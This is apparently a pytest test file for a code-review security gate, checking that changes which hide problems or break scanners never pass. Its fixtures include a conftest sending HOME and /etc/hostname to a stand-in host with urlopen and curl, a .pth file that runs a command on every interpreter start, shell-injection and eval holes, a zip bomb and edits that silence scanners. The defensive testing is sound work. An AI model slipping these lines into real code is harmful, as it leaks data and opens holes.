"""The fail-open list: each way in which a change, a scanner or a stage could make the gate see less than there is.

Whatever happens, the verdict of the whole gate over the whole change is INCONCLUSIVE or BLOCK, and the report says what
it was. How single parts behave then is in `test_conduct.py`, `test_stages.py`, `test_intake.py` and, of tests that
attack, in `test_held_by_tests.py`.
"""

from __future__ import annotations

import io
import json
import os
import signal
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from changes.making import Files, change
from interlock.changes import scanners, tools
from interlock.changes.change import LARGEST, Change
from interlock.changes.conduct import conduct
from interlock.changes.decide import Report, decide
from interlock.changes.finding import Finding, Verdict, Weight
from interlock.changes.stage import Found, Plain, Stage
from interlock.changes.stages import stages

HOLE = "import os\n\n\ndef f(x):\n    os.system('ls ' + x)\n"
HOME = """import os
import urllib.request


def pytest_configure(config):
    urllib.request.urlopen("https://c.example/" + os.environ["HOME"])
"""


def report(seen: Change, run: list[Stage] | None = None) -> Report:
    return decide(seen, conduct(seen, run or stages()))


def said(found: Report) -> str:
    """All that a reader is told."""
    told = [f"{f.rule} {f.title}" for f in found.findings if f.weight is not Weight.NOTE]
    return "\n".join([*found.problems, *(p for stage in found.stages for p in stage.problems), *told])


def zipped(size: int) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a", b"0" * size)
    return raw.getvalue()


# What a change brings, before and after; the words that the report has to hold.
CHANGES: dict[str, tuple[Files, Files, str]] = {
    "python that does not parse": ({"a.py": "x = 1\n"}, {"a.py": "def f(:\n"}, "a.py does not parse"),
    "javascript that does not parse": ({"a.js": "let a\n"}, {"a.js": "function f( { (((\n"}, "a.js cannot be"),
    "a manifest that does not parse": ({"a": ""}, {"package.json": '{"dependencies": {'}, "package.json cannot"),
    "a base that does not parse, as a baseline": ({"a.py": "def f(:\n"}, {"a.py": HOLE}, "static/shell-built"),
    "a second copy of what the base has": ({"a.py": HOLE}, {"b.py": HOLE, "a.py": HOLE + "\n"}, "static/shell-built"),
    "an edited baseline of a scanner": (
        {".secrets.baseline": "{}\n"},
        {".secrets.baseline": '{"results": {"a.py": []}}\n'},
        "told to leave out",
    ),
    "a list of what a scanner ignores": ({"a": ""}, {".semgrepignore": "src/\n"}, "told to leave out"),
    "the gate's own configuration": (
        {"a": ""},
        {".interlock/gate.toml": 'off = ["static"]\n', "a.py": HOLE},
        "scope/gate",
    ),
    "rules of a linter left out": (
        {"pyproject.toml": '[tool.ruff.lint]\nselect = ["S"]\n'},
        {"pyproject.toml": '[tool.ruff.lint]\nselect = ["S"]\nignore = ["S602"]\n'},
        "checks/security-rules-ignored",
    ),
    "a zip bomb": ({"a": ""}, {"data/x.zip": zipped(64 << 20)}, "was not unpacked"),
    "a package of code": ({"a": ""}, {"vendor/x-1.0-py3-none-any.whl": zipped(10)}, "was not unpacked"),
    "a huge file": ({"a": ""}, {"a.py": "x = 1\n" * (LARGEST // 6 + 1)}, "was not read"),
    "a file of blanks that git keeps small": ({"a": ""}, {"a.txt": b" " * (LARGEST * 4)}, "was not read"),
    "source in an encoding that nobody reads": ({"a": ""}, {"a.py": HOLE.encode("utf-16")}, "is not UTF-8"),
    "a conftest that phones home": ({"a": ""}, {"tests/conftest.py": HOME}, "reaches over the network"),
    "a conftest that starts a program which does": (
        {"a": ""},
        {"conftest.py": "import subprocess\n\nsubprocess.run(['curl', '-d@/etc/hostname', 'c.example'])\n"},
        "starts a program that reaches over the network",
    ),
    "a start of the interpreter": ({"a": ""}, {"src/x.pth": "import os; os.system('id')\n"}, "every start"),
    "bait before a hole, without an end": (
        {"a": ""},
        {"a.js": "a" + "[" * 9_000 + "\neval(req.query.x)\n"},
        "code-evaluated",
    ),
    "bait before a hole, of one letter": ({"a": ""}, {"a.py": "# " + "a" * 90_000 + "\n" + HOLE}, "static/shell-built"),
}  # fmt: skip


@pytest.mark.parametrize("name", CHANGES)
def test_a_change_that_hides_something_is_no_pass(tmp_path: Path, name: str) -> None:
    before, after, words = CHANGES[name]
    found = report(change(tmp_path, before, after))
    assert found.verdict is not Verdict.PASS
    assert words in said(found)


def hung(_: Change) -> Found:
    time.sleep(60)
    return Found()


def raised(_: Change) -> Found:
    raise RecursionError("too deep")


def ended(_: Change) -> Found:
    os._exit(0)


def killed(_: Change) -> Found:
    os.kill(os.getpid(), signal.SIGKILL)
    return Found()


def flooded(_: Change) -> Found:
    one = Finding(rule="it/x", weight=Weight.NOTE, path="a", title="x", fix="x")
    return Found(findings=(one,) * 20_000)


@pytest.mark.parametrize(
    ("run", "words"),
    [
        (hung, "within its budget"),
        (raised, "RecursionError"),
        (ended, "cannot be read"),
        (killed, "signal 9"),
        (flooded, "20000 findings"),
    ],
)
def test_a_stage_that_does_not_answer_is_no_pass(tmp_path: Path, run: Callable[[Change], Found], words: str) -> None:
    seen = change(tmp_path, {"a": "1\n"}, {"a": "2\n"})
    found = report(seen, [Plain("it", run, budget=0.5), Plain("other", lambda _: Found(), budget=5.0)])
    assert found.verdict is Verdict.INCONCLUSIVE
    assert words in said(found)


def test_a_budget_that_is_too_small_for_a_real_stage_is_no_pass(tmp_path: Path) -> None:
    rules = "[budgets]\nstatic = 0.001\n"
    found = report(change(tmp_path, {".interlock/gate.toml": rules}, {"a.py": HOLE}), stages(["static"]))
    assert found.verdict is Verdict.INCONCLUSIVE
    assert "budget of 0.001 s" in said(found)


def sarif(**more: object) -> str:
    place = {"physicalLocation": {"artifactLocation": {"uri": "a.py"}, "region": {"startLine": 1}}}
    result = {"ruleId": "r", "level": "error", "message": {"text": "bad"}, "locations": [place]} | more
    run = {"tool": {"driver": {"name": "t"}}, "results": [result], "invocations": [{"executionSuccessful": True}]}
    return json.dumps({"version": "2.1.0", "runs": [run]})


# What the report of a scanner holds -> what is said; "" where people have answered for it.
REPORTS = {
    "cut short": (sarif()[:-20], "not complete"),
    "empty": ("", "not complete"),
    "without a run": ('{"version": "2.1.0", "runs": []}', "did not start"),
    "masked by a comment of the change": (sarif(suppressions=[{"kind": "inSource"}]), "static/t/r"),
    "masked by a baseline that calls a new line old": (sarif(baselineState="unchanged"), "static/t/r"),
    "masked by a request that nobody accepted": (
        sarif(suppressions=[{"kind": "external", "status": "underReview"}]),
        "static/t/r",
    ),
    "left out by people": (sarif(suppressions=[{"kind": "external", "status": "accepted"}]), ""),
}


@pytest.mark.parametrize("name", REPORTS)
def test_a_report_that_says_less_than_there_is_is_no_pass(tmp_path: Path, name: str) -> None:
    text, words = REPORTS[name]
    (tmp_path / "r.sarif").write_text(text)
    base = {"a.py": "", ".interlock/gate.toml": f'sarif = ["{tmp_path}/r.sarif"]\n'}
    found = report(change(tmp_path / "r", dict(base), {"a.py": "x = 2\n"}), stages(["static"]))
    assert (found.verdict is Verdict.PASS) is (not words)
    assert words in said(found)


def test_a_report_that_is_not_there_is_no_pass(tmp_path: Path) -> None:
    rules = f'sarif = ["{tmp_path}/none.sarif"]\n'
    found = report(change(tmp_path / "r", {".interlock/gate.toml": rules}, {"a.py": "x = 2\n"}), stages(["static"]))
    assert found.verdict is Verdict.INCONCLUSIVE
    assert "cannot be read" in said(found)


def test_a_scanner_that_ends_well_and_says_nothing_is_no_pass(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    fake = tmp_path / "ruff"
    fake.write_text("#!/bin/sh\nexit 0\n")
    fake.chmod(0o755)
    monkeypatch.setattr(tools, "found", lambda _: os.fspath(fake))
    monkeypatch.setattr(scanners, "bandit", scanners.ruff)
    found = report(change(tmp_path / "r", {"a.py": ""}, {"a.py": "x = 2\n"}), stages(["static"]))
    assert found.verdict is Verdict.INCONCLUSIVE
    assert "cut short" in said(found)
